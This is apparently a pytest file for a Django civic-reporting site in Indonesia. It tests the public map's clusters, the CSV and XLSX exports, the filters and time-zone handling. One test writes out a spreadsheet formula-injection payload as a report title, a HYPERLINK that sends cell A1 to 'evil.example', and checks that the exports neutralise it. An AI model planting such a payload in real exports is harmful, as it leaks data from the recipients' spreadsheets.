"""The public map's clusters and the exports: published reports only (SPEC §5, §9)."""
import csv
import io

from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

INDONESIA = "bbox=94,-11.5,141.5,6.5&zoom=5"
BANJARBARU_CLOSE = "bbox=114.7,-3.6,115.0,-3.3&zoom=18"


def test_at_country_zoom_the_reports_around_banjarbaru_are_one_cluster(stories, client):
    published = [s for s in stories if s.published]
    data = client.get(f"/peta/data.json?{INDONESIA}").json()
    assert data["total"] == len(published)
    assert len(data["cells"]) == 1 and data["cells"][0]["count"] == len(published)
    assert "url" not in data["cells"][0]


def test_zoomed_in_each_report_is_its_own_marker_with_a_link_and_no_hidden_report_appears(stories, client):
    published = {s.report.tracking_id for s in stories if s.published}
    data = client.get(f"/peta/data.json?{BANJARBARU_CLOSE}").json()
    assert all(c["count"] == 1 for c in data["cells"])
    assert {c["tracking_id"] for c in data["cells"]} == published
    hidden = [s for s in stories if not s.published]
    body = client.get(f"/peta/data.json?{BANJARBARU_CLOSE}").content.decode()
    assert not any(s.report.tracking_id in body or s.report.title + '"' in body for s in hidden)


def test_the_map_endpoint_aggregates_in_the_database_in_a_fixed_number_of_queries(stories, client):
    with CaptureQueriesContext(connection) as queries:
        client.get(f"/peta/data.json?{BANJARBARU_CLOSE}")
    # filters (none) + one GROUP BY + one fetch of single-report cells
    grouped = [q["sql"] for q in queries.captured_queries if "GROUP BY" in q["sql"].upper()]
    assert len(grouped) == 1 and "FLOOR" in grouped[0].upper()
    assert len(queries.captured_queries) <= 3


def test_map_filters_by_agency_and_status(stories, world, client):
    want = [s for s in stories if s.published and s.root == world.pemkab and s.final_status == "dispatched"]
    data = client.get(f"/peta/data.json?{INDONESIA}&instansi=pemkab&status=dispatched").json()
    assert data["total"] == len(want)


def test_a_bad_viewport_is_refused(db, client):
    assert client.get("/peta/data.json?bbox=nonsense&zoom=3").status_code == 400


def test_the_map_page_lists_published_reports_beside_the_map(stories, client, settings):
    settings.LAPOR_MAP_TILE_URL = "https://tiles.example.id/{z}/{x}/{y}.png"
    page = client.get("/peta/").content.decode()
    assert 'data-tiles="https://tiles.example.id/{z}/{x}/{y}.png"' in page
    assert "leaflet-markercluster/leaflet.markercluster.js" in page
    newest = max((s for s in stories if s.published), key=lambda s: s.submitted)
    assert f"/laporan/{newest.report.tracking_id}/" in page


def test_the_csv_export_holds_exactly_the_published_reports_without_reporters(stories, client):
    response = client.get("/statistik/laporan.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "nomor"
    assert {r[0] for r in rows[1:]} == {s.report.tracking_id for s in stories if s.published}
    assert "Siti" not in text and "Budi" not in text  # the personas' names


def test_the_xlsx_export_follows_the_filters(stories, world, client):
    response = client.get("/statistik/laporan.xlsx?instansi=pemkot")
    sheet = load_workbook(io.BytesIO(response.content)).active
    ids = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert ids == {s.report.tracking_id for s in stories if s.published and s.root == world.pemkot}


def test_the_exports_give_every_time_in_one_zone_and_name_it(world, client):
    """Received 00:38 UTC is 08:38 WITA on a Banjarbaru report's page; a file compares
    agencies of every zone in the site's one (07:38 WIB) and says so on the row; in the
    spreadsheet it is a date and time, not text."""
    import datetime

    from lapor.reports import services

    received = datetime.datetime(2026, 11, 23, 0, 38, tzinfo=datetime.timezone.utc)
    report = services.report_submit(reporter=world.citizen, title="Lampu mati", body="Sejak Senin.",
                                    addressed_agency=world.pemkot, now=received)
    services.report_verify(report=report, by=world.agency_admin, agency=world.pupr,
                           now=received + datetime.timedelta(hours=1))

    text = b"".join(client.get("/statistik/laporan.csv").streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))[:2]
    assert (row[header.index("diterima")], row[header.index("zona")]) == ("2026-11-23 07:38", "WIB")

    sheet = load_workbook(io.BytesIO(client.get("/statistik/laporan.xlsx").content)).active
    cells = list(sheet.iter_rows(min_row=2, values_only=True))[0]
    assert cells[1] == datetime.datetime(2026, 11, 23, 7, 38) and cells[header.index("zona")] == "WIB"


def test_the_exports_give_the_region_code_and_the_pin_as_the_map_shows_them(world, client):
    """A BPBD officer or a newsroom puts the file on its own map: the region's code and
    the pin, where the reporter set one (as numbers in the spreadsheet)."""
    from lapor.regions.models import Region
    from lapor.reports import services

    region = Region.objects.create(code="63.72", name="Kota Banjarbaru", level=2)
    pinned = services.report_submit(reporter=world.citizen, title="Banjir", body="Air setinggi lutut.",
                                    addressed_agency=world.pemkot, latitude=-3.4425, longitude=114.8309,
                                    region=region)
    unpinned = services.report_submit(reporter=world.citizen, title="Lampu mati", body="Sejak Senin.",
                                      addressed_agency=world.pemkot)
    for report in (pinned, unpinned):
        services.report_verify(report=report, by=world.agency_admin, agency=world.pupr)

    text = b"".join(client.get("/statistik/laporan.csv").streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    by_id = {row[0]: dict(zip(header, row)) for row in rows}
    assert header[:12] == ["nomor", "diterima", "judul", "jenis", "kategori", "wilayah", "instansi", "status",
                           "tindak_lanjut_pertama", "selesai", "tautan", "zona"]  # as before, by position
    assert (by_id[pinned.tracking_id]["kode_wilayah"], by_id[pinned.tracking_id]["lintang"],
            by_id[pinned.tracking_id]["bujur"]) == ("63.72", "-3.4425", "114.8309")
    assert (by_id[unpinned.tracking_id]["lintang"], by_id[unpinned.tracking_id]["bujur"]) == ("", "")

    sheet = load_workbook(io.BytesIO(client.get("/statistik/laporan.xlsx").content)).active
    titles = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2, values_only=True):
        if row[0] == pinned.tracking_id:
            assert (row[titles.index("lintang")], row[titles.index("bujur")]) == (-3.4425, 114.8309)


def test_a_title_typed_as_a_formula_is_text_in_both_exports(world, client):
    """A citizen's title that starts like a formula opens as the words typed: not a link
    that sends the sheet's cells to another site when the leadership clicks it."""
    import zipfile

    from lapor.reports import services

    typed = '=HYPERLINK("http://evil.example/x?"&A1,"Klik untuk detail")'
    for title in (typed, "+62 811 jalan rusak", "-- lampu mati"):
        report = services.report_submit(reporter=world.citizen, title=title, body="Sejak Senin.",
                                        addressed_agency=world.pemkot)
        services.report_verify(report=report, by=world.agency_admin, agency=world.pupr)

    text = b"".join(client.get("/statistik/laporan.csv").streaming_content).decode("utf-8-sig")
    titles = {row[2] for row in csv.reader(io.StringIO(text))}
    assert {"'" + typed, "'+62 811 jalan rusak", "'-- lampu mati"} <= titles
    content = client.get("/statistik/laporan.xlsx").content
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula in the file at all
    cells = {row[2] for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True)}
    assert typed in cells and "+62 811 jalan rusak" in cells  # in a spreadsheet, the title as typed


def test_filters_that_cannot_be_used_are_named_on_the_page_and_refused_by_the_exports(stories, world, client):
    """A stale or mistyped link still shows the page, and says which filters it left out;
    an export with them is refused rather than a file of reports nobody chose."""
    bad = "?instansi=pemkot&status=selesai&dari=kemarin&wilayah=99"
    for path in ("/statistik/", "/kinerja/", "/peta/"):
        page = client.get(path + bad).content.decode()
        assert "Saringan ini tidak dikenal dan diabaikan:" in page, path
        assert all(f"{name} “{value}”" in page for name, value in
                   (("dari", "kemarin"), ("wilayah", "99"), ("status", "selesai"))), path
        assert "instansi “pemkot”" not in page, path  # that one is used
    english = client.get("/statistik/" + bad, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "These filters are unknown and were left out:" in english
    for path in ("/statistik/laporan.csv", "/statistik/laporan.xlsx", "/kinerja/peringkat.csv"):
        response = client.get(path + bad)
        assert response.status_code == 400, path
        text = response.content.decode()
        assert text.startswith("Saringan ini tidak dikenal: ") and "dari “kemarin”" in text, path
    # The page's own export link carries only the filters it used: that file comes.
    assert client.get("/statistik/laporan.csv?instansi=pemkot").status_code == 200
    assert client.get("/statistik/?instansi=pemkot").content.decode().count("tidak dikenal") == 0


def test_the_ranking_export_has_a_row_per_agency(stories, client):
    response = client.get("/kinerja/peringkat.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == ["Pemerintah Kabupaten Banjar", "Pemerintah Kota Banjarbaru"]


def test_the_monthly_report_is_printable_and_counts_the_month(stories, world, client):
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    # The agency's own month (Banjarbaru's WITA).
    feb = [s for s in stories if s.published and s.root == world.pemkot
           and timezone.localtime(s.submitted, ZoneInfo(world.pemkot.time_zone)).strftime("%Y-%m") == "2026-02"]
    page = client.get("/kinerja/pemkot/bulanan/2026-02/").content.decode()
    assert f'data-figure="count">{len(feb)}<' in page
    assert "@media print" in open("lapor/transparency/static/transparency/transparency.css").read()


def test_a_monthly_report_begins_at_the_agencys_own_midnight(world, client):
    """Filed at 00:30 WITA on 1 December (23:30 WIB on 30 November): December's, for a city in WITA."""
    import datetime
    from zoneinfo import ZoneInfo

    from lapor.reports import services

    at = datetime.datetime(2026, 12, 1, 0, 30, tzinfo=ZoneInfo("Asia/Makassar"))
    report = services.report_submit(reporter=world.citizen, title="Lampu mati", body="Sejak Senin.",
                                    addressed_agency=world.pemkot, now=at)
    services.report_verify(report=report, by=world.agency_admin, agency=world.pupr, now=at)
    assert world.pemkot.time_zone == "Asia/Makassar"
    december = client.get("/kinerja/pemkot/bulanan/2026-12/").content.decode()
    november = client.get("/kinerja/pemkot/bulanan/2026-11/").content.decode()
    assert 'data-figure="count">1<' in december and 'data-figure="count">0<' in november
    assert "WITA" in december.split("Dibuat", 1)[1][:60]


def test_low_zoom_viewports_of_different_screens_share_one_snapped_answer():
    from lapor.transparency import geo

    phone = geo.snapped(geo.Viewport(110.1, -5.2, 118.3, -1.1, 6))
    laptop = geo.snapped(geo.Viewport(110.4, -5.0, 118.9, -1.3, 6))
    assert phone == laptop
    assert phone.west <= 110.1 and phone.east >= 118.9 and phone.south <= -5.2 and phone.north >= -1.1


def test_the_incident_map_shows_the_last_hours_only_when_asked(world, client):
    """A BPBD duty officer in a flood watches what came in during the last 6 hours: older
    reports leave the map and its list, and the choice stays in the links (feed, exports)."""
    import datetime

    from django.utils import timezone

    from lapor.reports import services

    def published(title, hours_ago):
        at = timezone.now() - datetime.timedelta(hours=hours_ago)
        report = services.report_submit(reporter=world.citizen, title=title, body="Air setinggi lutut.",
                                        addressed_agency=world.pemkot, latitude=-3.44, longitude=114.83, now=at)
        services.report_verify(report=report, by=world.agency_admin, agency=world.pupr)
        return report

    fresh, old = published("Banjir di Jl. A. Yani km 32", 2), published("Banjir kemarin di Guntung Manggis", 30)
    everything = client.get(f"/peta/data.json?{INDONESIA}").json()
    recent = client.get(f"/peta/data.json?{INDONESIA}&jam=6").json()
    assert (everything["total"], recent["total"]) == (2, 1)

    page = client.get("/peta/?jam=6").content.decode()
    assert fresh.title in page and old.title not in page
    assert '<option value="6" selected>6 jam terakhir</option>' in page
    assert "/statistik/laporan.csv?jam=6" in page and 'data-query="jam=6"' in page
    text = b"".join(client.get("/statistik/laporan.csv?jam=6").streaming_content).decode("utf-8-sig")
    assert fresh.tracking_id in text and old.tracking_id not in text
    # A span the form does not offer is named and left out, as any unknown filter.
    assert "jam “5”" in client.get("/peta/?jam=5").content.decode()


def test_a_shared_link_to_a_regions_map_opens_on_that_regions_reports(world, client):
    """/peta/?wilayah=63.72 (a link in a WhatsApp group) opens around Banjarbaru's reports,
    not on the whole country; a region with no pinned report opens as before."""
    from lapor.regions.models import Region
    from lapor.reports import services

    kalsel = Region.objects.create(code="63", name="Kalimantan Selatan", level=1)
    banjarbaru = Region.objects.create(code="63.72", name="Kota Banjarbaru", level=2, parent=kalsel)
    Region.objects.create(code="63.03", name="Kabupaten Banjar", level=2, parent=kalsel)
    for lat, lon in ((-3.44, 114.81), (-3.47, 114.86)):
        report = services.report_submit(reporter=world.citizen, title="Banjir", body="Air setinggi lutut.",
                                        addressed_agency=world.pemkot, latitude=lat, longitude=lon,
                                        region=banjarbaru)
        services.report_verify(report=report, by=world.agency_admin, agency=world.pupr)

    page = client.get("/peta/?wilayah=63.72").content.decode()
    assert 'data-bounds="114.81,-3.47,114.86,-3.44"' in page
    assert 'data-bounds=""' in client.get("/peta/?wilayah=63.03").content.decode()
    assert 'data-bounds=""' in client.get("/peta/").content.decode()
